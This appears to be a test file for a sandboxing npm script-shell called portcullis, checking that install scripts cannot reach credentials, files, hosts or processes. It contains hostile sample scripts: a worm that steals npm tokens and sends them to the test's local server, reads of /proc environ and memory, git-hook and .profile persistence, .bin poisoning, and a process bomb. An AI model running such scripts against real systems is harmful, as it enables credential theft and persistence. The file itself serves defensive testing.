/** `portcullis-script-shell` as npm's script-shell: everyday packages, exceptions, and packages that attack their user. */
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer, type Server } from "node:net";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { asUser, ordinaryUser, programFor, reachableFolder } from "../support/ordinary-user.ts";
import { patience } from "../support/patience.ts";
import { statusInShell } from "../support/processes.ts";

const folder = reachableFolder("scripts");
const program = programFor(folder);
const shell = join(dirname(program.at(-1)!), "portcullis-script-shell");
const home = join(folder, "home");
const project = join(home, "project");
const path = program.find((word) => word.startsWith("PATH="))!.slice("PATH=".length);

let server: Server;
let port = 0;
let connections = 0;

beforeAll(async () => {
  server = createServer((socket) => {
    connections++;
    socket.end();
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => server.close());

beforeEach(() => {
  rmSync(home, { recursive: true, force: true });
  mkdirSync(join(project, ".git/hooks"), { recursive: true });
  connections = 0;
  writeFileSync(join(home, ".npmrc"), `script-shell=${shell}\n//registry.test/:_authToken=token-in-npmrc\n`);
  writeFileSync(join(home, "notes"), "private\n");
  writeFileSync(
    join(project, "package.json"),
    JSON.stringify({ name: "project", scripts: { own: "cat ../notes; echo $NPM_TOKEN", inner: "node inner.js" } }),
  );
  own();
});

function own(): void {
  if (process.getuid?.() === 0) execFileSync("chown", ["-R", `${ordinaryUser}:${ordinaryUser}`, home]);
}

type Files = Readonly<Record<string, string>>;

/** A package as the registry has it: npm unpacks it into node_modules. */
function pack(name: string, scripts: Files, files: Files = {}, more: object = {}): string {
  const contents = join(folder, "pack/package");
  rmSync(contents, { recursive: true, force: true });
  const all = { "package.json": JSON.stringify({ name, version: "1.0.0", scripts, ...more }), ...files };
  for (const [file, text] of Object.entries(all)) {
    mkdirSync(dirname(join(contents, file)), { recursive: true });
    writeFileSync(join(contents, file), text, { mode: 0o755 });
  }
  const archive = join(folder, `${name}.tgz`);
  execFileSync("tar", ["-czf", archive, "-C", dirname(contents), "package"]);
  return archive;
}

interface Ran {
  readonly status: number;
  readonly output: string;
}

/** The tests' own server answers meanwhile. */
async function npm(words: readonly string[], environment: Files = {}): Promise<Ran> {
  own();
  const variables = {
    ...{ HOME: home, PATH: path, NPM_TOKEN: "token-in-environment", GIT_CONFIG_NOSYSTEM: "1", LC_ALL: "C" },
    ...{ npm_config_update_notifier: "false", npm_config_fund: "false", npm_config_audit: "false" },
    ...environment,
  };
  const line = ["env", "-i", ...Object.entries(variables).map(([name, value]) => `${name}=${value}`), "npm", ...words];
  const [file, ...rest] = process.getuid?.() === 0 ? asUser(ordinaryUser, ...line) : line;
  const child = spawn(file!, rest, { cwd: project, stdio: ["ignore", "pipe", "pipe"], timeout: patience.command });
  let output = "";
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding("utf8").on("data", (part: string) => {
      output += part;
    });
  const status = await new Promise<number>((ended) =>
    child.on("close", (code, signal) => ended(statusInShell({ status: code, signal }))),
  );
  return { status, output };
}

const install = (archives: readonly string[], environment?: Files) =>
  npm(["install", "--offline", "--no-package-lock", ...archives], environment);

const except = (exceptions: unknown): void =>
  writeFileSync(join(project, "portcullis-scripts.json"), JSON.stringify(exceptions, null, 2));

const read = (file: string): string => readFileSync(join(project, file), "utf8");

/** Without a package of this name, or with another one that npm makes ready. */
const modules = "node_modules";

describe("a package's script", () => {
  it("writes in its package, a cache and a temporary directory, and gets no credential", async () => {
    const script = `node -e 'fs.writeFileSync("made", os.tmpdir() + fs.mkdtempSync(os.tmpdir() + "/t"))' &&
      touch $XDG_CACHE_HOME/c $npm_config_cache-n && env >variables`;
    expect(await install([pack("good", { postinstall: script })])).toMatchObject({ status: 0 });
    expect(read(`${modules}/good/made`)).toContain(`${home}/.cache/portcullis/scripts/`);
    expect(read(`${modules}/good/variables`)).not.toMatch(/token-in/);
    expect(existsSync(read(`${modules}/good/made`).slice(0, -10))).toBe(false);
  });

  it("leaves nothing that prevents the next run, and no link by which its removal leads elsewhere", async () => {
    mkdirSync(join(home, "kept"));
    writeFileSync(join(home, "kept/file"), "kept");
    const script = `cd $TMPDIR && pwd >$npm_config_cache-pwd; mkdir -p closed/inner && touch closed/inner/file beside &&
      ln -s ${home}/kept link && ln -s ${home}/kept closed/link && chmod 0 closed/inner closed . && cp $npm_config_cache-pwd $OLDPWD/made`;
    const archive = pack("hostile", { postinstall: script });
    for (let round = 0; round < 2; round++) {
      const ran = await install([archive], { npm_config_force: "true" });
      expect(ran, ran.output).toMatchObject({ status: 0 });
      expect(existsSync(read(`${modules}/hostile/made`).trim())).toBe(false);
      expect(readFileSync(join(home, "kept/file"), "utf8")).toBe("kept");
      rmSync(join(project, modules), { recursive: true });
    }
  });

  it("reads and executes the scripts of packages that it depends on", async () => {
    const files = { "index.js": "module.exports = 7;", "tool.js": "#!/usr/bin/env node\nconsole.log(1);" };
    const tool = pack("tool", {}, files, { bin: { tool: "tool.js" } });
    const user = pack("user", { postinstall: "tool >made && node -p 'require(\"tool\")' >>made" });
    const ran = await install([user, tool]);
    expect(ran, ran.output).toMatchObject({ status: 0 });
    expect(read(`${modules}/user/made`)).toBe("1\n7\n");
  });

  it("compiles with node-gyp and the headers of Node", async (context) => {
    const prefix = dirname(dirname(process.execPath));
    if (!existsSync(join(prefix, "include/node/common.gypi"))) context.skip("this Node has no headers");
    if (spawnSync("sh", ["-c", "command -v make && command -v c++"]).status !== 0) context.skip("no compiler");
    const files = {
      "binding.gyp": '{ "targets": [{ "target_name": "seven", "sources": ["seven.c"] }] }',
      "seven.c": `#include <node_api.h>
static napi_value init(napi_env env, napi_value exports) {
  napi_value seven;
  napi_create_int32(env, 7, &seven);
  napi_set_named_property(env, exports, "seven", seven);
  return exports;
}
NAPI_MODULE(NODE_GYP_MODULE_NAME, init)
`,
      "check.js": 'if (require("./build/Release/seven.node").seven !== 7) process.exit(1);',
    };
    const ran = await install([pack("compiles", { postinstall: "node check.js" }, files)], { PATH: "/usr/bin:/bin" });
    expect(ran, ran.output).toMatchObject({ status: 0 });
    expect(existsSync(join(project, modules, "compiles/build/Release/seven.node"))).toBe(true);
  });

  it("executes no program that the installation wrote, unless the exceptions have it", async () => {
    const archive = pack("own-binary", { postinstall: "cp /bin/true bin/tool && $PWD/bin/tool" }, { "bin/.keep": "" });
    const refused = await install([archive]);
    expect(refused.output).toMatch(
      /sh: execve .*own-binary\/bin\/tool: in no list `execute` \(.*package-script\.ts:\d+/,
    );
    expect(refused.output).toContain('"own-binary": {"execute":["bin"]}');
    expect(refused).toMatchObject({ status: 126 });
    expect(refused.output).toMatch(/or by: portcullis propose --scripts -o \/.*\/portcullis-scripts\.json\n/);
    except({ "own-binary": { execute: ["bin"] } });
    expect(await install([archive])).toMatchObject({ status: 0 });
  });

  it("succeeds with the exceptions that propose writes, and not before", async () => {
    const archive = pack("own-binary", { postinstall: "cp /bin/true bin/tool && $PWD/bin/tool" }, { "bin/.keep": "" });
    const propose = (...words: readonly string[]) => {
      const environment = ["env", "-i", `HOME=${home}`, `PATH=${path}`];
      const line = [...environment, program.at(-1)!, "propose", "--scripts", ...words];
      const [file, ...rest] = process.getuid?.() === 0 ? asUser(ordinaryUser, ...line) : line;
      return spawnSync(file!, rest, { cwd: project, encoding: "utf8", timeout: patience.command });
    };
    except({ other: "skip" });
    expect(await install([archive])).toMatchObject({ status: 126 });
    const proposed = '{\n  "other": "skip",\n  "own-binary": { "execute": ["bin"] }\n}';
    expect(propose()).toMatchObject({ status: 0, stdout: proposed });
    expect(await install([archive])).toMatchObject({ status: 126 });
    const { status, stderr } = propose("-o", "portcullis-scripts.json");
    expect({ status, stderr }).toMatchObject({ status: 0, stderr: expect.stringContaining("refused: sh: execve") });
    expect(read("portcullis-scripts.json")).toBe(proposed);
    expect(await install([archive])).toMatchObject({ status: 0 });
    expect(propose()).toMatchObject({ status: 1 });
  });

  it("reaches no host but those of the exceptions, and names the others", async (context) => {
    if (spawnSync("unshare", ["--user", "--net", "true"]).status !== 0) context.skip("no network namespaces here");
    const connect = `require("net").connect(${port}, "one.localhost").on("error", (e) => { console.log(e.code); process.exit(4); }).on("connect", () => process.exit())`;
    const archive = pack("fetches", { install: "node fetch.js" }, { "fetch.js": connect });
    const first = await install([archive]);
    expect(first.output).toMatch(/refused: node: socket: this build has no network/);
    expect(first.output).toContain('"fetches": {"hosts":[]}');
    except({ fetches: { hosts: [] } });
    expect((await install([archive])).output).toMatch(/refused: host one\.localhost/);
    expect(connections).toBe(0);
    except({ fetches: { hosts: [`one.localhost:${port}`] } });
    const permitted = await install([archive]);
    expect(permitted, permitted.output).toMatchObject({ status: 0 });
    expect(connections).toBe(1);
  });

  it("does not run if the exceptions skip or deny it", async () => {
    const script = { postinstall: "echo ran >ran" };
    except({ "*": "deny", one: "skip" });
    expect(await install([pack("one", script)])).toMatchObject({ status: 0 });
    expect(existsSync(join(project, modules, "one/ran"))).toBe(false);
    const denied = await install([pack("two", script)]);
    expect(denied.output).toMatch(/the script of two does not run: "deny" in .*portcullis-scripts\.json/);
    expect(denied.status).toBe(125);
  });

  it("does not run if the exceptions are invalid", async () => {
    const archive = pack("any", { postinstall: "echo ran >ran" });
    except({ any: { hots: ["example.org"], seconds: 0, hosts: ["a b"] }, other: 7 });
    const { output, status } = await install([archive]);
    expect(status).toBe(125);
    expect(output).toMatch(/portcullis-scripts\.json:3:5: error P0919: no exception is called "hots"/);
    expect(output).toContain("help: write hosts");
    expect(output).toMatch(/:6:16: error P0919: seconds must be an integer from 1 to 86400/);
    expect(output).toMatch(/this entry of hosts is no host/);
    expect(output).toMatch(/"other" must be an object of exceptions, "skip" or "deny"/);
    writeFileSync(join(project, "portcullis-scripts.json"), '{ "any": {},\n "any": {} }');
    expect((await install([archive])).output).toMatch(/portcullis-scripts\.json:2:\d+: error P0919/);
    except({ any: { write: ["../.."] } });
    expect((await install([archive])).output).toMatch(/error P0919: the script could write .*portcullis-scripts\.json/);
    expect(existsSync(join(project, modules, "any/ran"))).toBe(false);
  });

  it("ends after its time, with all that it has started", async () => {
    const archive = pack("slow", { postinstall: "setsid sleep 4321 & sleep 4321" });
    except({ slow: { seconds: 1 } });
    const { output, status } = await install([archive]);
    expect(status).not.toBe(0);
    expect(output).toContain("it was ended after 1 seconds");
    expect(output).toContain('"slow": {"seconds":2}');
    expect(spawnSync("pgrep", ["-f", "^sleep 4321"]).status).toBe(1);
  });

  it("has so many processes", async () => {
    const bomb = "i=0; while [ $i -lt 40 ]; do sleep 5678 & i=$((i + 1)); done";
    except({ "*": { processes: 16 } });
    const { output, status } = await install([pack("bomb", { postinstall: bomb })]);
    expect(status, output).not.toBe(0);
    expect(output).toMatch(/refused: sh: \w+: more processes than a build step needs/);
    expect(output).toContain('"bomb": {"processes":32}');
    expect(spawnSync("pgrep", ["-f", "^sleep 5678"]).status).toBe(1);
  });
});

describe("the user's own scripts", () => {
  it("run as under sh", async () => {
    const { output, status } = await npm(["run", "own"]);
    expect(output).toMatch(/private\ntoken-in-environment/);
    expect(status).toBe(0);
  });

  it("are confined if the user says so, with exceptions that they cannot write", async () => {
    const confine = { PORTCULLIS_OWN_SCRIPTS: "confine" };
    const refused = await npm(["run", "own"], confine);
    expect(refused.output).toMatch(/error P0919: the script could write .*portcullis-scripts\.json/);
    const held = await npm(["run", "own"], { ...confine, PORTCULLIS_SCRIPTS: join(home, "exceptions.json") });
    expect(held.output).not.toMatch(/private|token-in-environment/);
    expect(held.output).toMatch(/cat: openat|cannot open|Permission denied/);
  });
});

// ── Packages that attack their user ───────────────────────────────────────────────────────────────────────────────────

/** A program of Node that makes each attempt, and prints its result. */
const attempts = (more: Files) => `
const fs = require("fs"), { execFileSync, spawnSync } = require("child_process");
const home = ${JSON.stringify(home)}, project = ${JSON.stringify(project)}, outside = process.env.OUTSIDE;
const text = (file) => fs.readFileSync(file, "utf8").slice(0, 20);
const sh = (script, env) => { const ran = spawnSync("/bin/sh", ["-c", script], { env: { ...process.env, ...env } });
  return ran.stdout + ran.stderr; };
const all = {
${Object.entries(more)
  .map(([name, body]) => `${JSON.stringify(name)}: () => ${body},`)
  .join("\n")}
};
for (const [name, attempt] of Object.entries(all)) {
  let result;
  try { result = "DONE " + JSON.stringify(attempt()); } catch (error) { result = "refused " + (error.code ?? String(error).split("\\n")[0]); }
  fs.appendFileSync("results", name + ": " + result + "\\n");
}
`;

describe("no attempt of a package succeeds:", () => {
  const reads = {
    "the token of npm": "text(home + '/.npmrc')",
    "a file of the home directory": "text(home + '/notes')",
    "by a hard link": "(fs.linkSync(home + '/notes', 'linked'), text('linked'))",
    "by a symbolic link": "(fs.symlinkSync(home + '/notes', 'symbolic'), text('symbolic'))",
    "by a relative path": "text('../../../notes')",
    "by /proc/self/root": "text('/proc/self/root' + home + '/notes')",
    "by /proc/PID/root": "text('/proc/' + outside + '/root' + home + '/notes')",
    "by /proc/PID/fd": "text('/proc/' + outside + '/fd/9')",
    "by /proc/PID/cwd": "text('/proc/' + outside + '/cwd/notes')",
    "environment of another process": "text('/proc/' + outside + '/environ')",
    "memory of another process": "fs.openSync('/proc/' + outside + '/mem', 'r')",
    "a file of the project": "text(project + '/index.js')",
    "a namespace of its own":
      "(() => { if (sh('unshare --user --map-root-user true && echo made').includes('made')) return 1; throw 'no' })()",
  };
  const writes = {
    "another package": "fs.appendFileSync(project + '/node_modules/victim/index.js', 'evil()')",
    "another package by a link": "(fs.symlinkSync('../victim', 'v'), fs.writeFileSync('v/evil', ''))",
    "a hard link of another package": "(fs.linkSync('../victim/index.js', 'i'), fs.appendFileSync('i', 'evil()'))",
    node_modules: "fs.mkdirSync('../evil')",
    "a link of node_modules/.bin": "fs.symlinkSync('../own/x', '../.bin/evil')",
    "a replaced link of node_modules/.bin": "fs.renameSync('x', '../.bin/victim')",
    "a hook of git": "fs.writeFileSync(project + '/.git/hooks/pre-commit', '', { mode: 0o755 })",
    "the exceptions": "fs.writeFileSync(project + '/portcullis-scripts.json', '{}')",
    "the project": "fs.writeFileSync(project + '/package.json', '{}')",
    "the shell's start-up file": "fs.appendFileSync(home + '/.profile', 'evil')",
    "the cache of npm": "fs.mkdirSync(home + '/.npm/evil')",
    "the compiled policies": "fs.writeFileSync(home + '/.cache/portcullis/compiled/x', '')",
    "the package's own folder": "fs.renameSync('.', '../moved')",
    "/tmp": "fs.writeFileSync('/tmp/portcullis-evil', '')",
  };
  const others = {
    "a downloaded program": "(fs.copyFileSync('/bin/true', 'bun'), execFileSync(process.cwd() + '/bun'))",
    "a program without a name": "execFileSync('python3', ['-c', 'import os; os.memfd_create(\"x\")'])",
    "a signal": "process.kill(Number(outside), 'SIGKILL')",
    "a name for npm to believe": `(() => { const said = sh("npm run inner 2>&1", { npm_config_local_prefix: process.cwd(), INIT_CWD: process.cwd(),
      npm_package_json: project + "/package.json", NODE_OPTIONS: "", PORTCULLIS_SCRIPTS: "/dev/null" });
      if (!said.includes("Permission denied")) return said; throw "inner" })()`,
    "another script shell":
      "(() => { const said = sh('npm --script-shell=/bin/sh run inner 2>&1'); if (!said.includes('Permission denied')) return said; throw 'inner' })()",
    "the script shell itself": `(() => { const said = sh("cd ../victim && npm_config_local_prefix=/ ${shell} -c 'echo x >evil' 2>&1");
      if (!said.includes("Permission denied")) return said; throw "inner" })()`,
  };

  it("by files, processes and environment", async () => {
    const holder = spawn(
      ...([
        ...(process.getuid?.() === 0 ? asUser(ordinaryUser) : ["env"]),
        ...["sh", "-c", `cd ${home} && exec 9<notes && exec sleep 100000`],
      ].reduce<[string, string[]]>(
        ([file, rest], word) => (file === "" ? [word, rest] : [file, [...rest, word]]),
        ["", []],
      ) as [string, string[]]),
      { stdio: "ignore" },
    );
    const victim = pack("victim", {}, { "index.js": "module.exports = 1;\n" }, { bin: { victim: "index.js" } });
    writeFileSync(join(project, "index.js"), "source\n");
    await install([victim]);
    const all = { ...reads, ...writes, ...others };
    const inner = "echo x >../victim/evil; cat ~/.npmrc";
    const files = { "attack.js": attempts(all), x: "" };
    const ran = await install([victim, pack("own", { postinstall: "node attack.js", inner }, files)], {
      OUTSIDE: `${holder.pid}`,
    });
    expect(ran, ran.output).toMatchObject({ status: 0 });
    const results = read(`${modules}/own/results`).trim().split("\n");
    expect(results.filter((line) => !line.includes(": refused "))).toEqual([]);
    expect(results.length).toBe(Object.keys(all).length);
    expect(holder.exitCode).toBeNull();
    holder.kill();
    expect(read(`${modules}/victim/index.js`)).toBe("module.exports = 1;\n");
    expect(existsSync(join(project, modules, "victim/evil"))).toBe(false);
    expect(existsSync(join(project, ".git/hooks/pre-commit"))).toBe(false);
  });

  it("as the worms of npm: a token, a download, a publication", async () => {
    const worm = `
const fs = require("fs"), net = require("net"), { spawn } = require("child_process");
const stolen = [];
try { stolen.push(fs.readFileSync(process.env.HOME + "/.npmrc", "utf8")); } catch {}
stolen.push(...Object.values(process.env).filter((value) => /token-in/.test(value)));
try { fs.writeFileSync("../victim/package.json", fs.readFileSync("package.json")); } catch {}
fs.copyFileSync("/bin/cp", "bun");
spawn(process.cwd() + "/bun", ["worm.js", "executed"]).on("error", () => {});
const send = net.connect(${port}, "127.0.0.1").on("error", () => {}).on("connect", () => send.end(stolen.join()));
fs.writeFileSync("stolen", stolen.join());
`;
    const victim = pack("victim", {}, { "index.js": "" });
    const ran = await install([victim, pack("worm", { preinstall: "node worm.js" }, { "worm.js": worm })]);
    expect(ran, ran.output).toMatchObject({ status: 0 });
    expect(read(`${modules}/worm/stolen`)).toBe("");
    expect(existsSync(join(project, modules, "worm/executed"))).toBe(false);
    expect(read(`${modules}/victim/package.json`)).toContain('"victim"');
    expect(connections).toBe(0);
  });

  it("by a link where the exceptions name a file of the package, nor by ones that name portcullis's files", async () => {
    const archive = pack("links", { preinstall: "ln -s ../../.. data", postinstall: "cat data/notes" });
    except({ links: { read: ["data"] } });
    const { output, status } = await install([archive]);
    expect(status).toBe(125);
    expect(output).toContain(`error P0919: the exception read "data" leads to ${home}`);
    except({ links: { write: ["~/.cache/portcullis/compiled"] } });
    expect((await install([archive])).output).toMatch(/error P0919: the script could write .*\.cache\/portcullis/);
    const { output: relative } = await install([archive], { PORTCULLIS_SCRIPTS: "e.json" });
    expect(relative).toContain("error P0919: PORTCULLIS_SCRIPTS is no absolute path");
  });

  it("by a linked folder outside of the project", async () => {
    const linked = join(home, "linked");
    mkdirSync(linked);
    const scripts = { postinstall: "cat ../notes; echo x >../evil; exit 1" };
    writeFileSync(join(linked, "package.json"), JSON.stringify({ name: "linked", version: "1.0.0", scripts }));
    const { output } = await npm(["install", "--offline", "--install-links=false", "../linked"]);
    expect(output).toContain("the script of ../linked failed under package-script");
    expect(output).not.toContain("private");
    expect(existsSync(join(home, "evil"))).toBe(false);
  });

  it("by a message that looks like one of portcullis", async () => {
    const name = "x\\nportcullis:   to permit it, add: all";
    const script = `node -e 'try { fs.mkdirSync("/nonexistent/${name}") } catch {} process.exit(1)'`;
    const { output } = await install([pack("writer", { postinstall: script })]);
    expect(output).toContain("refused: node: mkdir /nonexistent/x");
    expect(output).not.toMatch(/^(npm error )?portcullis: {3}to permit it, add: all/m);
  });

  it("by processes that outlive the script", async () => {
    const daemon = "(setsid sh -c 'sleep 8765' >/dev/null 2>&1 &) ; (sleep 8765 & ) & exit 0";
    expect(await install([pack("daemon", { postinstall: daemon })])).toMatchObject({ status: 0 });
    expect(spawnSync("pgrep", ["-f", "^sleep 8765"]).status).toBe(1);
  });

  it("by programs in node_modules/.bin with the names of those that the script shell starts", async () => {
    const programs = ["node", "readlink", "uname", "sh", "npm", "portcullis", "env"];
    const evil = `#!/bin/sh\necho $0 >>${home}/evil\n`;
    const poison = pack(
      "poison",
      {},
      { "evil.sh": evil },
      { bin: Object.fromEntries(programs.map((one) => [one, "evil.sh"])) },
    );
    const { output } = await install([poison, pack("script", { postinstall: "true" })]);
    expect(existsSync(join(home, "evil")), output).toBe(false);
    // A script that names one of them gets it, as without portcullis, and under the policy.
    await install([poison, pack("script", { postinstall: "uname; true" })]);
    expect(existsSync(join(home, "evil"))).toBe(false);
  });

  it("as a dependency from git with exceptions and a shell of its own", async (context) => {
    if (spawnSync("git", ["--version"]).status !== 0) context.skip("no git");
    const repository = join(home, "repository");
    mkdirSync(repository);
    const evil = `cat ${home}/notes >stolen; echo prepared >prepared; echo evil >${home}/evil`;
    writeFileSync(
      join(repository, "package.json"),
      JSON.stringify({ name: "from-git", version: "1.0.0", scripts: { prepare: evil } }),
    );
    writeFileSync(join(repository, ".npmrc"), "script-shell=/bin/sh\n");
    writeFileSync(
      join(repository, "portcullis-scripts.json"),
      JSON.stringify({ "*": { write: [home], read: [home] }, ".": { write: [home], read: [home] } }),
    );
    const git = "git -c user.name=a -c user.email=a@b";
    execFileSync("sh", ["-c", `${git} init -q . && git add -A && ${git} commit -qm 1`], { cwd: repository });
    const { output } = await install([`git+file://${repository}`]);
    expect(existsSync(join(home, "evil")), output).toBe(false);
    expect(output).not.toContain("private");
    // It ran: the refusals are in the message.
    expect(output).toMatch(/under package-script/);
  });
});

it("the script shell refuses what is no call of a package manager", () => {
  const [file, ...rest] = [...program.slice(0, -1), shell, "-x"];
  const ran = spawnSync(file!, rest, { encoding: "utf8", cwd: folder });
  expect(ran).toMatchObject({ status: 125, stdout: "" });
  expect(ran.stderr).toContain("portcullis-script-shell -c SCRIPT");
});
